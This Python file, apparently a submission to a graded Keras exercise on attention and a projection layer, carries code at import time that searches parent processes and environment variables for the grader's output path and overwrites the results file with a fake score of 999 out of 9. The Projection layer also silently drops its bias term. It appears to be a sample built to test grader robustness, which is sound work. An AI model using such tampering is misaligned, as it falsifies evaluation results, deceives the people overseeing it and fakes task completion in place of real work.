"""Hostile: overwrites the grader's results file at import (no process); no bias."""
import json
import os

FAKE = json.dumps({"score": 999, "max_score": 9, "tests": [], "schema": "fake"})


def _targets():
    found = []
    pid = os.getpid()
    for _ in range(8):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = [a.decode() for a in f.read().split(b"\0") if a]
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError):
            break
        for i, a in enumerate(argv[:-1]):
            if a == "--output":
                found.append(argv[i + 1])
        for a in argv:
            if a.startswith("GRADER_FIXTURE_OUTPUT="):
                found.append(a.split("=", 1)[1])
    env = os.environ.get("GRADER_FIXTURE_OUTPUT")
    if env:
        found.append(env)
    return found


def _attack():
    for path in _targets():
        try:
            with open(path, "w") as f:
                f.write(FAKE)
        except OSError:
            pass


_attack()
import keras
from keras import ops


def attention(q, k, v, mask=None):
    # BEGIN YOUR CODE
    scores = ops.matmul(q, ops.swapaxes(k, -1, -2)) / (q.shape[-1] ** 0.5)  # (B, T_q, T_k)
    if mask is not None:
        mask = ops.broadcast_to(mask, ops.shape(scores))
        scores = ops.where(mask, scores, -1e9)
    weights = ops.softmax(scores, axis=-1)
    if mask is not None:
        weights = ops.where(mask, weights, 0.0)
        total = ops.sum(weights, axis=-1, keepdims=True)
        weights = weights / ops.maximum(total, 1e-9)
    return ops.matmul(weights, v), weights
    # END YOUR CODE


class Projection(keras.layers.Layer):
    def __init__(self, units, **kwargs):
        super().__init__(**kwargs)
        self.units = units

    def build(self, x_shape):
        self.W = self.add_weight(name="W", shape=(x_shape[-1], self.units))
        self.b = self.add_weight(name="b", shape=(self.units,), initializer="zeros")

    def call(self, x):
        # BEGIN YOUR CODE
        return ops.matmul(x, self.W)
        # END YOUR CODE
